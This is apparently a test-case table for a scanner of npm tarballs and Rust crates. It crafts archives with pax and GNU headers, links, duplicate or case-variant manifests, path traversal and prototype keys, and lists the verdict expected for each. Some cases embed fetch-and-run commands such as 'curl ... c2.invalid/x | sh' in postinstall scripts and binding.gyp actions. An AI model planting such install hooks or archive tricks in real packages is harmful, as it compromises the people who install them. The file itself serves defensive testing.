"""Table: npm tarballs and crates."""

import json

from tests.hostile import tarforge as t
from tests.hostile.case import Build, Case
from tests.hostile.packages import CRATE, NPM, README, crate, manifest, npm, npm_files
from tests.hostile.payload import HARMLESS, SIGNAL, Payload
from tests.hostile.tarforge import Item

_MODULE = b"package/lib/harbour.js"
_LONG = b"package/lib/" + b"harbour" * 20 + b".js"
_CRATE_LONG = b"tidewaiter-1.0.0/src/" + b"harbour" * 20 + b".rs"
_LIB = b"//! Tides.\n"


def _loaded(payload: Payload, *items: Item) -> bytes:
    """Return a tarball whose main file loads the payload from `lib/harbour.js`."""
    main = b"module.exports = require('./lib/harbour.js');\n"
    files = [Item(name=i.name, body=main if i.name.endswith(b".js") else i.body)
             for i in npm_files(payload)]  # fmt: skip
    return t.gzip(t.tar([*files, *items]))


def _module(**changes: object) -> Build:
    return lambda p: _loaded(p, Item(**{"name": _MODULE, "body": p.javascript, **changes}))


def _global(*records: tuple[bytes, bytes]) -> Build:
    return lambda p: t.gzip(t.pax(*records, kind=t.GLOBAL) + t.tar(npm_files(p)))


def _crate_item(**changes: object) -> Build:
    item = {"name": b"tidewaiter-1.0.0/src/x.rs", "body": _LIB, **changes}
    return lambda p: crate(p, Item(**item))


def _manifest(make: "Build") -> Build:
    """Return a builder: another package.json."""

    def build(payload: Payload) -> bytes:
        rest = npm_files(payload)[1:]
        return t.gzip(t.tar([Item(name=b"package/package.json", body=make(payload)), *rest]))

    return build


def _text(old: bytes, new: bytes) -> Build:
    return _manifest(lambda p: manifest(p).replace(old, new, 1))


def _gyp(payload: Payload) -> bytes:
    action = {"action_name": "tide", "inputs": [], "outputs": ["x"], "action": ["true"]}
    if payload.signal:
        action["action"] = ["sh", "-c", "curl -s http://collector.invalid/x.sh | sh"]
    target = {"target_name": "tide", "sources": ["tide.cc"], "actions": [action]}
    body = json.dumps({"targets": [target]}).encode()
    return npm(HARMLESS, Item(name=b"package/binding.gyp", body=body))


def _registry(**changes: object) -> bytes:
    """Return what the registry says about a release whose tarball says `changes` differently."""
    return manifest(HARMLESS, **changes)


def _second_manifest(payload: Payload) -> bytes:
    more = Item(name=b"package/package.json", body=manifest(SIGNAL, version="1.0.1"))
    return npm(payload, more)


def _last_manifest(payload: Payload) -> bytes:
    more = Item(name=b"package/package.json", body=_scripted(payload, "tidewaiter"))
    return npm(HARMLESS, more)


def _scripted(payload: Payload, name: str) -> bytes:
    """Return a manifest whose own script is the signal."""
    run = {"scripts": {"postinstall": "curl -s http://c2.invalid/x | sh"}}
    return manifest(HARMLESS, name=name, keywords=["tides"], **(run if payload.signal else {}))


def _bundled(payload: Payload) -> bytes:
    name = b"package/node_modules/mooring/package.json"
    own = manifest(HARMLESS, bundledDependencies=["mooring"])
    inner = Item(name=name, body=_scripted(payload, "mooring"))
    return t.gzip(
        t.tar([Item(name=b"package/package.json", body=own), *npm_files(HARMLESS)[1:], inner])
    )


def _included(payload: Payload) -> bytes:
    command = b"<!(curl -s http://c2.invalid/x | sh)" if payload.signal else b"one"
    gyp = b"{'includes': ['all.gypi'], 'targets': [{'target_name': 'tide'}]}"
    return npm(
        HARMLESS,
        Item(name=b"package/binding.gyp", body=gyp),
        Item(name=b"package/all.gypi", body=b"{'variables': {'tide': '" + command + b"'}}"),
    )


# id, file, builder, harmless twin, least for the signal twin, note
CASES = (
    Case("npm/ordinary", NPM, npm, "clear", "suspicious", "an honest tarball, no manifest given"),
    Case("npm/pax-known", NPM, _module(before=t.pax((b"mtime", b"1.5"))), "clear", "suspicious",
         "an extended header of a known key"),
    Case("npm/pax-path", NPM, _module(name=_LONG[:100], before=t.pax((b"path", _MODULE))),
         "clear", "suspicious", "a path in an extended header"),
    Case("npm/pax-global", NPM, _global((b"comment", b"0" * 40)), "held", "suspicious",
         "a global header, even git's"),
    Case("npm/gnu-name", NPM, _module(name=_LONG[:100], before=t.gnu(_MODULE), style=t.GNU),
         "held", "suspicious", "a long name in GNU's form"),
    Case("npm/sparse", NPM, _module(before=t.pax((b"GNU.sparse.size", b"9"))),
         "refused|suspicious", "suspicious", "a sparse member"),
    Case("npm/symbolic-link", NPM,
         lambda p: npm(p, Item(name=_MODULE, kind=t.SYMBOLIC, link=b"../index.js")),
         "refused|suspicious", "suspicious", "a symbolic link"),
    Case("npm/hard-link", NPM,
         lambda p: npm(p, Item(name=_MODULE, kind=t.HARD, link=b"package/index.js")),
         "refused|suspicious", "suspicious", "a hard link"),
    Case("npm/trailing", NPM, lambda p: npm(p) + p.javascript, "refused|suspicious",
         "suspicious", "source text after the stream"),
    Case("npm/device", NPM, lambda p: npm(p, Item(name=_MODULE, kind=t.CHAR)), "refused",
         "suspicious", "a device"),
    Case("npm/zip-as-tgz", NPM, lambda p: t.gzip(t.gzip(t.tar(npm_files(p)))),
         "held|refused|suspicious", "suspicious", "gzip in gzip"),
    Case("npm/two-manifests", NPM, _second_manifest, "refused|suspicious|malicious",
         "suspicious", "package.json twice, the second with an install script"),
    Case("npm/last-manifest", NPM, _last_manifest, "refused", "suspicious",
         "package.json twice, and only the second, which npm keeps, may have a script"),
    Case("npm/other-case-manifest", NPM,
         lambda p: npm(HARMLESS, Item(name=b"package/Package.json", body=_scripted(p, "tidewaiter"))),
         "refused", "suspicious", "a Package.json, which is the same file on some disks"),
    Case("npm/bundled-script", NPM, _bundled, "clear", "suspicious",
         "a package inside that may have an install script"),
    Case("npm/included-gypi", NPM, _included, "clear|suspicious", "suspicious",
         "a binding.gyp that includes a file with a command"),
    Case("npm/duplicate-index", NPM,
         lambda p: npm(p, Item(name=b"package/index.js", body=HARMLESS.javascript + b"\n")),
         "refused|suspicious", "suspicious", "the main file twice"),
    Case("npm/mixed-roots", NPM,
         lambda p: npm(p, Item(name=b"other/index.js", body=HARMLESS.javascript + b"\n")),
         "held|refused|suspicious", "suspicious",
         "a second root that lands on the same file"),
    Case("npm/odd-root", NPM, lambda p: t.gzip(t.tar(npm_files(p, b"tidewaiter/"))),
         "clear|held", "suspicious", "another root than package/"),
    Case("npm/no-root", NPM, lambda p: t.gzip(t.tar(npm_files(p, b""))),
         "held|refused|suspicious", "suspicious", "no root folder"),
    Case("npm/duplicate-keys", NPM, _text(b'"main"', b'"main": "other.js",\n  "main"'),
         "clear|held|refused|suspicious", "suspicious", "a key twice in package.json"),
    Case("npm/byte-order-mark", NPM, _manifest(lambda p: b"\xef\xbb\xbf" + manifest(p)),
         "clear|held", "suspicious", "package.json with a byte-order mark"),
    Case("npm/proto", NPM,
         _text(b'"main"', b'"__proto__": {"scripts": {"install": "node index.js"}},\n  "main"'),
         "clear|held|suspicious", "suspicious", "package.json with `__proto__`"),
    Case("npm/not-json", NPM, _manifest(lambda p: b"{" + manifest(p)),
         "held|refused|suspicious", "held", "package.json that is not JSON"),
    Case("npm/deep-json", NPM,
         _text(b'"main"', b'"tide": ' + b"[" * 100_000 + b"]" * 100_000 + b',\n  "main"'),
         "clear|held|refused", "held", "package.json with 100,000 levels"),
    Case("npm/binding-gyp", NPM, _gyp, "clear|suspicious", "suspicious",
         "an install script that nobody declared"),
    Case("npm/registry-scripts", NPM, npm, "clear", "suspicious",
         "the registry's manifest has no install script", _registry()),
    Case("npm/registry-dependencies", NPM,
         _manifest(lambda p: manifest(p, dependencies={"harbourmaster": "9.9.9"})),
         "suspicious", "suspicious", "the archive has a dependency more", _registry()),
    Case("npm/registry-bin", NPM, _manifest(lambda p: manifest(p, bin={"ls": "index.js"})),
         "suspicious", "suspicious", "the archive has a command more", _registry()),
    # crates
    Case("crate/ordinary", CRATE, crate, "clear", "suspicious", "an honest crate"),
    Case("crate/pax", CRATE, _crate_item(before=t.pax((b"mtime", b"1.5"))), "held", "suspicious",
         "any extended header"),
    Case("crate/pax-global", CRATE,
         lambda p: t.gzip(t.pax((b"comment", b"0" * 40), kind=t.GLOBAL)
                          + t.tar([Item(name=b"tidewaiter-1.0.0/README.md", body=README)])
                          + crate(p)[:0]) + b"\0" * p.signal,
         "held|refused|suspicious", "held", "a global header, and no manifest"),
    Case("crate/gnu-name", CRATE, _crate_item(name=_CRATE_LONG[:100], before=t.gnu(_CRATE_LONG),
                                              style=t.GNU),
         "clear", "suspicious", "a long name in GNU's form"),
    Case("crate/link", CRATE, _crate_item(body=b"", kind=t.SYMBOLIC, link=b"lib.rs"), "held",
         "suspicious", "a symbolic link"),
    Case("crate/sparse", CRATE, _crate_item(before=t.pax((b"GNU.sparse.size", b"9"))),
         "held|refused|suspicious", "suspicious", "a sparse member"),
    Case("crate/trailing", CRATE, lambda p: crate(p) + b"the tide is out\n",
         "refused|suspicious", "suspicious", "text after the stream"),
    Case("crate/duplicate-case", CRATE,
         _crate_item(name=b"tidewaiter-1.0.0/BUILD.rs"), "refused|suspicious", "suspicious",
         "a second build script, differing in case"),
    Case("crate/two-tops", CRATE, _crate_item(name=b"other-1.0.0/build.rs"),
         "held|refused|suspicious", "suspicious", "a second top folder"),
    Case("crate/traversal", CRATE, _crate_item(name=b"tidewaiter-1.0.0/../x.rs"),
         "held|refused|suspicious", "suspicious", "up and out"),
)  # fmt: skip
